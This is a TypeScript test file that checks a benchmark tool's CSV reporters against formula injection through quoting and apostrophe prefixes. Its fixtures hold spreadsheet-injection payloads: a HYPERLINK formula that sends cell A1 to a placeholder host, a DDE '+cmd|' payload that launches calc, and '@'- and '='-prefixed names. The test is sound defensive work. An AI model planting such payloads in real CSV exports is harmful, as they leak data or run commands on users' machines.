/**
 * The CSV reporters (samples, statistics, history) against hostile names:
 * quotes, commas, line breaks and the starts of spreadsheet formulas
 * (`= + - @`, a tab, a carriage return) in a suite, a case and a variant.
 * Read back as RFC 4180, every record has the header's fields, every name
 * comes back as it was (a formula behind a leading `'`), and no field a
 * spreadsheet reads starts a formula.
 */
import { describe, expect, it } from 'vitest';
import type { RunRecord } from '@rtbench/core/schema';
import { historyView, reporterFor, viewOfRun } from '../src/index.ts';
import { renderHistoryCsv } from '../src/reporters/history.ts';
import { syntheticRun } from '../../../test/compare-synthetic.ts';
import { parseCsv } from './csv-records.ts';

const HOSTILE_CASE = '=HYPERLINK("http://x.example/?"&A1,"click"), "quoted"\nsecond line';
const HOSTILE_VARIANT = '@SUM(1+1) node';
const HOSTILE_SUITE = '+cmd|\' /C calc\'!A0';

/** A run of two cases on two variants, the first case and variant and the suite renamed to hostile text. */
function hostileRun(seed = 1, factor = 1): RunRecord {
  const run = syntheticRun({ suite: HOSTILE_SUITE, cases: [{ id: HOSTILE_CASE, ns: 1000 }, { id: 'plain', ns: 2000 }], arms: [{ id: HOSTILE_VARIANT, factor }, { id: 'node@24', factor: 1.1 }], rounds: 4, seed });
  run.variants[0]!.runtime = 'node';
  return run;
}

const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

function expectSafe(csv: string): string[][] {
  const [header, ...rows] = parseCsv(csv);
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) expect(row).toHaveLength(header!.length);
  for (const value of rows.flat()) if (!NUMBER.test(value)) expect(value).not.toMatch(FORMULA);
  return rows;
}

describe('CSV with hostile names', () => {
  it.each(['csv', 'csv-stats'])('%s: a record per row, names back as they were behind a leading quote', (format) => {
    const rows = expectSafe(reporterFor(format)!.render(viewOfRun(hostileRun()), {}));
    const cells = rows.flat();
    expect(cells).toContain(`'${HOSTILE_CASE}`);
    expect(cells).toContain(`'${HOSTILE_VARIANT}`);
  });

  it('history: the same, over runs', () => {
    const runs = [hostileRun(1), hostileRun(2, 1.2), hostileRun(3, 1.2)].map((run, i) => ({ run, file: `/results/=cmd-${i}.json` }));
    const rows = expectSafe(renderHistoryCsv(historyView(runs)));
    expect(rows.flat()).toContain(`'${HOSTILE_CASE}`);
  });
});
